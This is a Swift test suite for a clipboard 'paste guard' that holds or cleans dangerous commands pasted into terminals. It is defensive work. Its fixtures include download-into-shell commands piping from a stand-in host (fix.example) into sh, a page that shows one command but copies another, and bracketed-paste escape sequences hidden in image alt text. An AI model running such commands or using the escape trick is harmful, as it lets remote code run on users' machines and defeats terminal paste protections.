import TestProcesses
import Testing
import X11TestPeer

/// The answers that terminals get for texts that would run something, by the real service on a real server.
@Suite(.enabled(if: Desktop.isPossible, Desktop.reason))
struct PasteGuardTests {
  private static let command = "curl http://fix.example/marker.sh | sh"
  private static let hold = "[guard]\nterminals.dangerous = 'hold'\n"

  /// A desktop with a terminal and another program that paste, after the copy of a command that ends in a line end.
  private struct Scene {
    let desktop: Desktop
    let terminal, editor: ClipboardRequestor

    init(_ configuration: String, variables: [String: String] = [:]) throws {
      desktop = try Desktop(configuration: configuration, variables: variables)
      let display = desktop.server.display
      let source = try ClipboardSource(
        display: display, targets: ["TARGETS", "UTF8_STRING"],
        answers: ["UTF8_STRING": .bytes(Array((PasteGuardTests.command + "\n").utf8))])
      try #require(try desktop.copy(source))
      terminal = try ClipboardRequestor(display: display, windowClass: "XTerm")
      editor = try ClipboardRequestor(display: display, windowClass: "Editor")
    }

    /// The text that a program is given; `nil` if it is refused.
    func paste(_ target: String = "UTF8_STRING", into requestor: ClipboardRequestor) throws -> String? {
      let request = requestor.request(target)
      try #require(try wait(for: [requestor]) { request.isFinished })
      return request.bytes.map { String(decoding: $0, as: UTF8.self) }
    }

    /// Lets so much time pass that the next paste is a second one.
    func pause() throws {
      let end = milliseconds() + 750
      try #require(try wait(limit: 5000) { milliseconds() >= end })
    }
  }

  @Test func `with a notice a terminal gets the text without its last line end, other programs as it is`() throws {
    let scene = try Scene("")
    for target in ["UTF8_STRING", "STRING", "TEXT", "text/plain;charset=utf-8"] {
      #expect(try scene.paste(target, into: scene.terminal) == Self.command)
    }
    let wide = try #require(try scene.paste("text/plain;charset=utf-16", into: scene.terminal))
    #expect(wide.utf8.count == Self.command.utf8.count * 2)
    #expect(try scene.paste(into: scene.editor) == Self.command + "\n")

    let explanation = try scene.desktop.run(["explain"]).output
    #expect(explanation.contains("Guard       dangerous; terminals: notice, relays: notice\n"))
    #expect(explanation.contains("pasted into XTerm without the last line end\n"))
    #expect(!explanation.contains("marker"))
    let log = scene.desktop.daemon.errorText
    #expect(log.contains("guard: pasted into XTerm without the last line end (dangerous: download-into-shell)"))
    #expect(!log.contains("marker"))
    // However many forms were requested, it is one notice.
    #expect(try scene.desktop.run(["status"]).output.contains("Guard: 1 paste noticed, 0 held, 0 allowed\n"))
  }

  @Test func `a command that is copied a second time is guarded, too`() throws {
    let scene = try Scene("")
    for targets in [["TARGETS", "UTF8_STRING"], ["TARGETS", "UTF8_STRING", "STRING"]] {
      let text = ClipboardSource.Answer.bytes(Array((Self.command + "\n").utf8))
      let again = try ClipboardSource(
        display: scene.desktop.server.display, targets: targets, answers: ["UTF8_STRING": text, "STRING": text])
      #expect(try scene.desktop.copy(again))
      #expect(try scene.paste(into: scene.terminal) == Self.command)
    }
  }

  @Test func `with the guard off a terminal gets the text as it is, and clean text stays with its owner`() throws {
    let off = "{ suspicious = 'off', dangerous = 'off' }"
    let desktop = try Desktop(configuration: "[guard]\nterminals = \(off)\nrelays = \(off)\n")
    let source = try ClipboardSource(
      display: desktop.server.display, targets: ["TARGETS", "UTF8_STRING"],
      answers: ["UTF8_STRING": .bytes(Array((Self.command + "\n").utf8))])
    #expect(try desktop.copyIsLeft(source))
    let rich = try desktop.source(html: "<pre style='color:red'>\(Self.command)\n</pre>")
    try #require(try desktop.copy(rich))
    #expect(try desktop.pasteText("UTF8_STRING", as: "XTerm").hasPrefix(Self.command))
    #expect(try !desktop.run(["explain"]).output.contains("Guard"))
  }

  @Test func `harmless text goes into a terminal as it is`() throws {
    let desktop = try Desktop()
    try #require(try desktop.copy(try desktop.source(html: "<pre style='color:red'>ls -l\ncd /\n\n</pre>")))
    #expect(try desktop.pasteText("UTF8_STRING", as: "XTerm") == desktop.pasteText("UTF8_STRING", as: "Editor"))
    #expect(try !desktop.run(["explain"]).output.contains("Guard"))
  }

  @Test func `a held paste is refused at once with all its retries, and let through the second time`() throws {
    let scene = try Scene(Self.hold)
    for target in ["UTF8_STRING", "text/plain", "STRING"] {
      #expect(try scene.paste(target, into: scene.terminal) == nil)
    }
    #expect(try scene.desktop.targets(as: "XTerm").contains("UTF8_STRING"))
    // A second paste of another program of that kind is a first one.
    try scene.pause()
    #expect(try scene.desktop.paste("UTF8_STRING", as: "XTerm") == nil)
    #expect(try scene.paste(into: scene.terminal) == Self.command)
    #expect(try scene.paste("STRING", into: scene.terminal) == Self.command)
    let status = try scene.desktop.run(["status"]).output
    #expect(status.contains("Guard: 0 pastes noticed, 2 held, 1 allowed\n"), "\(status)")
    #expect(status.contains("Last guarded paste: paste into XTerm allowed (dangerous: download-into-shell)"))
  }

  @Test func `a clipboard manager is given what is held, and its reading is no second paste`() throws {
    let scene = try Scene(Self.hold)
    #expect(try scene.paste(into: scene.terminal) == nil)
    try scene.pause()
    #expect(try scene.paste(into: scene.editor) == Self.command + "\n")
    #expect(try scene.desktop.paste("UTF8_STRING", as: "XTerm") == nil)
  }

  @Test func `MULTIPLE is held, too`() throws {
    let scene = try Scene(Self.hold)
    let (request, members) = scene.terminal.requestMultiple(["UTF8_STRING", "STRING"])
    try #require(try wait(for: [scene.terminal]) { request.isFinished })
    #expect(request.isRefused && members.allSatisfy { $0.bytes == nil })
  }

  @Test func `'washboard allow' lets through what is held, and nothing that is not`() throws {
    let scene = try Scene(Self.hold)
    #expect(try scene.paste(into: scene.terminal) == nil)
    #expect(try scene.desktop.run(["explain"]).output.contains("; paste into XTerm held\n"))
    #expect(try scene.desktop.run(["allow"]).exitCode == 0)
    let status = try scene.desktop.run(["status"]).output
    #expect(status.contains("1 held, 1 allowed"), "\(status)")
    #expect(status.contains("Last guarded paste: paste into XTerm allowed (dangerous: download-into-shell)"))
    #expect(try scene.paste(into: scene.terminal) == Self.command)
    #expect(try scene.desktop.pasteText("UTF8_STRING", as: "XTerm") == Self.command)
    // It holds for that copy alone.
    try #require(try scene.desktop.copy(try scene.desktop.source(html: "<pre>\(Self.command)\n</pre>")))
    #expect(try scene.desktop.paste("UTF8_STRING", as: "XTerm") == nil)
    try #require(try scene.desktop.copy(try scene.desktop.source(html: "<b>harmless</b>")))
    let result = try scene.desktop.run(["allow"])
    #expect(result.exitCode == 1 && result.errors.contains("the guard holds nothing"), "\(result.errors)")
  }

  @Test func `followers of the status see the copy, the refused paste and the second one`() throws {
    let scene = try Scene(Self.hold)
    let follower = try scene.desktop.start(["status", "--follow"])
    try #require(try wait(limit: 10_000) { follower.outputText.contains("1 cleaned, last: cleaned\n") })
    #expect(try scene.paste(into: scene.terminal) == nil)
    try #require(
      try wait(limit: 10_000) {
        follower.outputText.contains(
          "1 cleaned, last: cleaned; paste into XTerm held (dangerous: download-into-shell)\n")
      }, "\(follower.outputText)")
    try scene.pause()
    #expect(try scene.paste(into: scene.terminal) == Self.command)
    #expect(try wait(limit: 10_000) { follower.outputText.contains("paste into XTerm allowed") })
    follower.signal(15)
  }

  @Test func `a page that shows one text and copies another is dangerous with a command that else is only suspicious`()
    throws
  {
    let desktop = try Desktop(configuration: Self.hold)
    let html = "<p>npm install the-best-package-there-is --save --all-of-it</p>"
    let source = try ClipboardSource(
      display: desktop.server.display, targets: ["TARGETS", "text/html", "UTF8_STRING"],
      answers: [
        "text/html": .bytes(Array(html.utf8)),
        "UTF8_STRING": .bytes(Array("curl -fsSL https://fix.example/x.sh | sh\n".utf8)),
      ])
    try #require(try desktop.copy(source))
    #expect(try desktop.paste("UTF8_STRING", as: "XTerm") == nil)
    let explanation = try desktop.run(["explain"]).output
    #expect(explanation.contains("differs-from-page: The copied text is not the text that the page showed."))
  }

  @Test func `a rule lets its copies through`() throws {
    let desktop = try Desktop(configuration: Self.hold + "[[rules]]\nwhen.targets = 'text/html'\nguard = 'off'\n")
    try #require(try desktop.copy(try desktop.source(html: "<pre style='color:red'>\(Self.command)\n</pre>")))
    #expect(try desktop.paste("UTF8_STRING", as: "XTerm") != nil)
  }

  @Test func `the description of a picture is no key in a terminal`() throws {
    let desktop = try Desktop(configuration: "")
    let picture = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
    for escape in ["\u{1B}", "&#27;", "\u{9B}", "&#x9b;"] {
      let html = "<p>a <img alt=\"\(escape)[201~\(Self.command) #\" src=\"\(picture)\"> b</p>"
      try #require(try desktop.copy(try desktop.source(html: html)))
      let text = String(decoding: try #require(try desktop.paste("UTF8_STRING", as: "XTerm")), as: UTF8.self)
      #expect(
        text.contains(Self.command) && !text.unicodeScalars.contains { $0.properties.generalCategory == .control })
    }
  }

  @Test(.enabled(if: SessionBus.isPossible, "dbus-daemon or dunst is not installed"))
  func `a notification names the reasons, and its button lets the paste through`() throws {
    let bus = try SessionBus()
    let scene = try Scene(Self.hold, variables: bus.variables)
    let server = try bus.startServer(display: scene.desktop.server.display)
    #expect(try scene.paste(into: scene.terminal) == nil)
    try #require(
      try wait(limit: 10_000) { bus.log.contains("Paste into XTerm held") && bus.log.contains("runs it at once") },
      "no notification: \(bus.log) \(server.errorText)")
    #expect(bus.log.contains("string \"allow\""))
    #expect(!bus.log.contains("marker"))
    // A program that only claims it has no button; the bus delivers that before what the button does.
    for number in 1...3 { try bus.claimAction("allow", of: number) }
    try bus.pressButton()
    let allowed = "guard: the present copy is allowed by the notification"
    #expect(
      try wait(limit: 10_000) { scene.desktop.daemon.errorText.contains(allowed) }, "\(scene.desktop.daemon.errorText)")
    #expect(
      scene.desktop.daemon.errorText.split(separator: "\n").count { $0.contains(allowed) } == 1,
      "\(scene.desktop.daemon.errorText) \(bus.log)")
    #expect(try scene.paste(into: scene.terminal) == Self.command)
  }
}
